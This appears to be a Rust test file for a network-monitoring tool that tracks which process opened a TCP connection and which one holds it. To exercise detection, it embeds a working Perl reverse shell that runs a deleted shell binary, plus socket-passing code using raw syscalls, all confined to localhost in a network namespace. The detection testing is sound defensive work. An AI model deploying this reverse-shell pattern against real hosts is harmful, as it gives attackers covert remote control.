//! Processes that hold a connection which another process opened.

use std::{
    io::{BufRead, BufReader, Write},
    net::{TcpListener, TcpStream},
    process::{self, Command},
    thread,
    time::{Duration, Instant},
};

use serde_json::Value;
use socket2::SockRef;

use super::programs::bash;
use crate::kernel::{
    harness::{Watch, patience},
    journal::now,
    netns::Netns,
    recording::{Directory, Record, history, objects, run, settle},
    tier::{Tier, tier},
};

/// The shape of a reverse shell: a script connects to the port of its first argument, and leaves
/// the connection to a child; the child becomes a shell, the file of its second argument, which it
/// deletes. The script waits for the shell if it has a third argument.
const SHELL: &str = r#"
    socket($s, 2, 1, 0) or die;
    connect($s, pack("S n C4 x8", 2, $ARGV[0], 127, 0, 0, 1)) or die;
    if (fork) { wait if $ARGV[2]; exit }
    open(STDIN, "<&", $s); open(STDOUT, ">&", $s);
    $^F = 99; open($file, "<", $ARGV[1]) or die; unlink $ARGV[1];
    exec {"/proc/self/fd/" . fileno($file)} "sh", "-s", "quiet";
"#;

/// Asserts the process that opened a connection, and the one that holds it.
#[track_caller]
fn assert_both(row: &Value, [opener, holder]: [u32; 2], copy: &str) {
    let exact = |text: &str| if tier() == Tier::Basic { Value::Null } else { text.into() };
    assert_eq!(
        (&row["pid"], &row["comm"], &row["owner_evidence"]),
        (&opener.into(), &"perl".into(), &"connect".into()),
        "{row:#}"
    );
    assert_eq!(row["holder_pid"], holder, "{row:#}");
    let fields = [("holder_exe", copy), ("holder_args", "sh -s quiet")];
    for (name, wanted) in fields {
        assert_eq!(row[name], exact(wanted), "{name} of {row:#}");
    }
    if tier() != Tier::Basic {
        assert_eq!(row["holder_exe_deleted"], true, "{row:#}");
        assert_eq!(row["holder_ppid"], opener, "{row:#}");
        let above = |name: &str| row[name].as_str().unwrap_or_default().lines().map(str::to_owned);
        let of_holder: Vec<_> = above("holder_ancestors").collect();
        let exe = row["exe"].as_str().unwrap_or_default();
        assert_eq!(of_holder[0], format!("{opener} {exe}"), "{row:#}");
        let of_opener: Vec<_> = above("ancestors").collect();
        assert!(of_opener[0].starts_with(&format!("{} /", process::id())), "{row:#}");
        assert!(of_holder[1..].starts_with(&of_opener[..of_holder.len() - 1]), "{row:#}");
        assert!(row["exe"].as_str().is_some_and(|exe| exe.contains("perl")), "{row:#}");
    }
}

/// Asserts that the text of a command has both processes.
#[track_caller]
fn assert_text(args: &[&str], directory: &Directory, [opener, holder]: [u32; 2]) {
    let output = run(&[args, &["--wide-owner", "--journal"]].concat(), &directory.0);
    let text = String::from_utf8_lossy(&output.stdout);
    let of = |wanted: &str| text.lines().find(|line| line.trim_start().starts_with(wanted));
    let opened = of(&format!("opened by {opener}/perl (connect) uid:"));
    let held = of(&format!("held by {holder}/"));
    let (Some(opened), Some(held)) = (opened, held) else { panic!("{output:?}") };
    if tier() != Tier::Basic {
        assert!(opened.contains(" exe:/") && opened.contains(" args:perl -e "), "{opened}");
        assert!(held.contains(" (deleted) args:sh -s quiet"), "{held}");
    }
}

#[test]
fn a_reverse_shell_is_opened_by_one_process_and_held_by_another() {
    reverse_shell(&[]);
}

#[test]
fn a_reverse_shell_is_seen_beside_a_script_that_waits_for_it() {
    // The basic tier does not know that the child runs another program.
    if tier() != Tier::Basic {
        reverse_shell(&["waits"]);
    }
}

fn reverse_shell(args: &[&str]) {
    let directory = Directory::new();
    let copies = Directory::new();
    let copy = copies.0.join("copy").to_string_lossy().into_owned();
    std::fs::copy(bash(), &copy).expect("a copy");
    Netns::new().run(|| {
        let record = Record::start(&directory.0);
        let mut watch = Watch::start(&[]);
        let listener = TcpListener::bind("127.0.0.1:0").expect("a listener");
        let address = listener.local_addr().expect("bound");
        let mut script = Command::new("perl");
        script.args(["-e", SHELL, &address.port().to_string(), &copy]).args(args);
        let mut script = script.spawn().expect("perl");
        let opener = script.id();
        SockRef::from(&listener).set_read_timeout(Some(patience())).expect("a limit");
        let (mut server, client) = listener.accept().expect("accepted");
        if args.is_empty() {
            assert!(script.wait().expect("its end").success());
        }
        server.set_read_timeout(Some(patience())).expect("a limit");
        writeln!(server, "echo $$").expect("written");
        let mut answer = String::new();
        let mut lines = BufReader::new(server.try_clone().expect("a copy"));
        lines.read_line(&mut answer).expect("the number of the shell");
        let both = [opener, answer.trim().parse().expect("a number")];

        // Each change of the table brings dumps.
        let change = || drop(TcpStream::connect(address).expect("connected"));
        let filter = format!("sport = :{} and dir = out", client.port());
        let end = Instant::now() + patience();
        let (then, moment) = loop {
            change();
            thread::sleep(Duration::from_secs(1));
            let moment = now();
            thread::sleep(Duration::from_millis(600));
            let args = ["snapshot", "-tanp", "--json", "--at", &moment, &filter, "--journal"];
            let rows = objects(&args, &directory.0);
            if let Some(row) = rows.into_iter().find(|row| row["holder_pid"] == both[1]) {
                break (row, moment);
            }
            assert!(Instant::now() < end, "no dump has found the shell");
        };
        assert_both(&then, both, &copy);
        assert_text(&["snapshot", "-tan", "--at", &moment, &filter], &directory, both);
        let owners = then["owners"].as_array().expect("a list");
        assert_eq!((owners.len(), &owners[0]["pid"]), (1, &both[1].into()), "{then:#}");

        change();
        watch.dumps(1);
        drop((lines, server));
        let is_it = |event: &&Value| {
            event["type"] == "closed"
                && event["local_port"] == client.port()
                && event["direction"] == "outbound"
        };
        script.wait().expect("its end");
        watch.until("the end", |events| events.iter().any(|event| is_it(&event)));
        assert_both(watch.events.iter().find(is_it).expect("there"), both, &copy);

        record.stop();
        settle(&directory);
        let by = if tier() == Tier::Basic {
            format!("pid = {}", both[1])
        } else {
            format!("exe = {copy} and comm = perl")
        };
        let rows = history(&directory.0, &format!("{filter} and {by}"));
        let [row] = &rows[..] else { panic!("{rows:#?}") };
        assert_both(row, both, &copy);
        assert_text(&["history", "--no-pager", &filter], &directory, both);
        let args = ["export", "--dataset", "processes", "--format", "jsonl", "--journal"];
        let processes = objects(&args, &directory.0);
        // The shell has opened no connection, so that its user is not known.
        let shell = processes.iter().find(|process| process["pid"] == both[1]);
        assert!(shell.is_some_and(|shell| shell["uid"].is_null()), "{processes:#?}");
    });
}

/// A server whose connections are not close-on-exec, and which runs commands.
const COMMANDS: &str = r#"
    $^F = 99;
    socket($s, 2, 1, 0) or die;
    connect($s, pack("S n C4 x8", 2, $ARGV[0], 127, 0, 0, 1)) or die;
    $end = time + 7;
    system("/bin/true") while time < $end;
"#;

#[test]
fn commands_that_inherit_a_connection_for_a_moment_are_no_holders() {
    let directory = Directory::new();
    Netns::new().run(|| {
        let record = Record::start(&directory.0);
        let listener = TcpListener::bind("127.0.0.1:0").expect("a listener");
        let port = listener.local_addr().expect("bound").port().to_string();
        let mut server = Command::new("perl").args(["-e", COMMANDS, &port]).spawn().expect("perl");
        SockRef::from(&listener).set_read_timeout(Some(patience())).expect("a limit");
        let (_held, client) = listener.accept().expect("accepted");
        assert!(server.wait().expect("its end").success());
        record.stop();
        settle(&directory);
        let port = client.port();
        let args = ["export", "--dataset", "events", "--format", "jsonl", "--journal"];
        let events = objects(&args, &directory.0);
        let mut of_client = events.iter().filter(|event| event["local_port"] == port);
        let held = of_client.find(|event| !event["holder_pid"].is_null());
        assert_eq!(held, None);
    });
}

/// A script that connects to the port of its first argument, passes the connection to a child that
/// began before, and ends. The child writes its number into the connection, and keeps it. The other
/// arguments are the numbers of the system calls sendmsg and recvmsg.
const PASS: &str = r#"
    my ($port, $sendmsg, $recvmsg) = @ARGV;
    socketpair(my $ours, my $theirs, 1, 1, 0) or die;
    my $data = "x";
    my $parts = pack("P Q", $data, 1);
    sub message { pack("Q L x4 P Q P Q l x4", 0, 0, $parts, 1, $_[0], 24, 0) }
    if (fork) {
        socket(my $s, 2, 1, 0) or die;
        connect($s, pack("S n C4 x8", 2, $port, 127, 0, 0, 1)) or die;
        my $rights = pack("Q l l l x4", 20, 1, 1, fileno $s);
        syscall($sendmsg + 0, fileno $ours, message($rights), 0) == 1 or die $!;
        exit;
    }
    close $ours;
    my $rights = "\0" x 24;
    syscall($recvmsg + 0, fileno $theirs, message($rights), 0) == 1 or die $!;
    open(my $s, "+<&=", unpack("x16 l", $rights)) or die;
    syswrite($s, "$$\n");
    sysread($s, my $end, 1);
"#;

#[test]
fn a_connection_that_was_passed_on_is_held_by_its_receiver() {
    Netns::new().run(|| {
        let mut watch = Watch::start(&[]);
        let listener = TcpListener::bind("127.0.0.1:0").expect("a listener");
        let address = listener.local_addr().expect("bound");
        let calls = [libc::SYS_sendmsg, libc::SYS_recvmsg].map(|number| number.to_string());
        let mut script = Command::new("perl");
        script.args(["-e", PASS, &address.port().to_string()]).args(calls);
        let mut script = script.spawn().expect("perl");
        let opener = script.id();
        SockRef::from(&listener).set_read_timeout(Some(patience())).expect("a limit");
        let (server, client) = listener.accept().expect("accepted");
        assert!(script.wait().expect("its end").success());
        server.set_read_timeout(Some(patience())).expect("a limit");
        let mut answer = String::new();
        BufReader::new(&server).read_line(&mut answer).expect("the number of the receiver");
        let receiver: u32 = answer.trim().parse().expect("a number");
        // Each change of the table brings dumps, and a process that two of them found is a holder.
        for _ in 0..2 {
            drop(TcpStream::connect(address).expect("connected"));
            watch.dumps(1);
        }
        drop(server);
        let is_it = |event: &&Value| {
            event["type"] == "closed"
                && event["local_port"] == client.port()
                && event["direction"] == "outbound"
        };
        watch.until("the end", |events| events.iter().any(|event| is_it(&event)));
        let closed = watch.events.iter().find(is_it).expect("there");
        assert_eq!((&closed["pid"], &closed["holder_pid"]), (&opener.into(), &receiver.into()));
        assert_eq!(closed["owner_evidence"], "connect", "{closed:#}");
        if tier() != Tier::Basic {
            assert_eq!(closed["holder_ppid"], opener, "{closed:#}");
        }
    });
}
